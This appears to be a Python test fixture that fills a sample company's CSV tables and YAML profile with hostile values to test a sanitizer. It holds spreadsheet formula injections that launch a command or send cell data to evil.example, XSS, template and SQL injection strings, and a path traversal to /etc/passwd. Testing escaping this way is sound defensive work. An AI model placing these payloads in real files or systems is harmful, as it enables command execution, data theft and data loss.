"""A company whose every name wants to run: a part of the sample company's files with hostile texts for its own.

Products, categories, channels, cities, sources, managers, campaigns, offers, tiers, topics, comments and the ids of
some customers are markup, addresses and formulas; two columns are even called so. Numbers and dates are the sample's.
"""

import csv
import zlib
from pathlib import Path

import yaml

from retention_helpers.params.files import PARAMS
from tests.publishing.test_sanitizer import CORPUS

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"alert(1)")',
    "\t=1+1",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in ().__class__ %}alert(1){% endfor %}",
    "${alert(1)}",
    "`alert(1)`",
    "[alert(1)](javascript:alert(1))",
]
QUERIES = ["'; DROP TABLE order_lines; --", 'alert(1)" OR 1=1 --', "../../etc/passwd"]
HOSTILE = [" ".join(text.split()) for text in (*CORPUS, *FORMULAS, *TEMPLATES, *QUERIES)]

TITLE = "<script>alert(1)</script> & <b>Co</b>"
CHANGED = {
    "orders": ["product_name", "category", "channel"],
    "customers": ["city", "country", "source", "manager"],
    "memberships": ["tier"],
    "contacts": ["campaign_id", "offer", "channel"],
    "feedback": ["comment", "topic", "channel"],
    "touchpoints": ["channel"],
}
NAMED = {"product_name": '=HYPERLINK("https://evil.example")', "category": "<img src=x onerror=alert(1)>"}
_IDS = ("customer_id", "alias_id", "referred_by")
_PART = 6  # of six customers one is kept: enough for every notebook, quick enough for a test


def write_hostile(company: Path, folder: Path) -> Path:
    """Write the hostile company made of the sample's files in ``company``; gives its profile's path."""
    folder.mkdir(parents=True)
    kept = _kept(company)
    for path in sorted(company.glob("*.csv")):
        table = path.stem.partition("-")[0]
        rows = [_hostile(row, table) for row in _rows(path) if row.get("customer_id", "") in kept]
        _write(folder / path.name, rows or _rows(path))
    profile = yaml.safe_load((PARAMS / "profiles" / "sample.yaml").read_text(encoding="utf-8"))
    profile["title"] = TITLE
    for source in profile["tables"].values():
        source["source"] = Path(source["source"]).name
    for ours, theirs in NAMED.items():
        profile["tables"]["orders"]["columns"][ours] = theirs
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(profile, allow_unicode=True), encoding="utf-8")
    return path


def _kept(company: Path) -> set[str]:
    """The ids, aliases and spoiled ids of the customers who are kept, and the missing id."""
    ids = {row["customer_id"] for row in _rows(company / "customers.csv") if int(row["customer_id"]) % _PART == 0}
    aliases = {row["alias_id"] for row in _rows(company / "identities.csv") if row["customer_id"] in ids}
    return {*ids, *aliases, *(f"{known}.0" for known in ids), ""}


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [{name.strip(): value for name, value in row.items()} for row in csv.DictReader(file)]


def _hostile(row: dict[str, str], table: str) -> dict[str, str]:
    changed = {name: _instead(row[name]) if name in CHANGED.get(table, ()) else row[name] for name in row}
    changed |= {name: _id(row[name]) for name in _IDS if name in row}
    return {NAMED.get(name, name): value for name, value in changed.items()}


def _instead(text: str) -> str:
    """The same text is always replaced by the same one; what was missing stays so."""
    return HOSTILE[zlib.crc32(text.encode()) % len(HOSTILE)] if text else ""


def _id(known: str) -> str:
    """Every tenth customer's id is hostile, too."""
    plain = known.removesuffix(".0")
    return f"{_instead(plain)} {plain}" if plain.isdigit() and int(plain) % (10 * _PART) == 0 else known


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
